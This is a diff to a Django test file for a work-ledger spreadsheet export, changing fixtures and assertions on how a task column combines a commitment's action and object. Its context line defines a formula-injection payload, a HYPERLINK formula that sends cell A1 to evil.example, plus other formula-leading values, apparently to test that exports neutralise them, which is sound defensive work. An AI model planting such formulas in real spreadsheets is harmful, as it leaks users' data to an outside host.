@@ -22,8 +22,8 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 def hostile(seed_ledger):
     """Two commitments of the seed report whose text and part a spreadsheet would run."""
     first, second = seed_ledger.commitments.filter(testable=True).order_by("start")[:2]
-    Commitment.objects.filter(pk=first.pk).update(text=HOSTILE, object=HOSTILE, part="+1+2", part_heading="")
-    Commitment.objects.filter(pk=second.pk).update(text="@SUM(1,2)", object="SUM", part="-3", part_heading="")
+    Commitment.objects.filter(pk=first.pk).update(action="", text=HOSTILE, object=HOSTILE, part="+1+2", part_heading="")
+    Commitment.objects.filter(pk=second.pk).update(action="", text="@SUM(1,2)", object="SUM", part="-3", part_heading="")
     return seed_ledger
 
 
@@ -140,19 +140,23 @@ def test_an_xlsx_export_drops_control_characters_it_cannot_hold(seed_ledger, bos
 
 
 def test_the_task_column_reads_on_its_own(seed_ledger):
-    """An item of a list is written whole in 工作任务 (计划执行 → its report), a bare act with what it is on; a row
-    whose words hold its object is written as the report has it."""
+    """An item of a list is written whole in 工作任务, led by the list's verb (计划执行 → 听取审议计划执行报告), a bare
+    act with what it is on; a row whose words hold its object and its verb is written as the report has it."""
     from ledger import exports
 
     rows = {row[0]: dict(zip(exports.COLUMN_KEYS, row)) for row in exports.ledger_rows(Commitment.objects.all())}
     by_text = {}
     for commitment in Commitment.objects.filter(testable=True):
         by_text.setdefault(commitment.text, commitment)
-    assert rows[by_text["计划执行"].pk]["task"] == by_text["计划执行"].object == "计划执行报告"
+    plan = by_text["计划执行"]
+    assert rows[plan.pk]["task"] == plan.action + plan.object == "听取审议计划执行报告"
     visit = Commitment.objects.filter(testable=True, text="视察").first()
-    assert rows[visit.pk]["task"] == f"视察（{visit.object}）"
-    whole = Commitment.objects.filter(testable=True).exclude(text__in=["计划执行", "视察"]).filter(text__contains="条例").first()
-    assert whole.object in whole.text and rows[whole.pk]["task"] == whole.text
+    assert rows[visit.pk]["task"] == f"开展视察（{visit.object}）" and visit.action == "开展"
+    whole = next(
+        c for c in Commitment.objects.filter(testable=True, text__contains="条例").exclude(text__in=["计划执行", "视察"])
+        if c.object in c.text and c.action in c.text
+    )
+    assert rows[whole.pk]["task"] == whole.text
 
 
 def test_the_sheet_names_who_decided_a_status_as_the_task_page_does(seed_ledger, django_user_model):
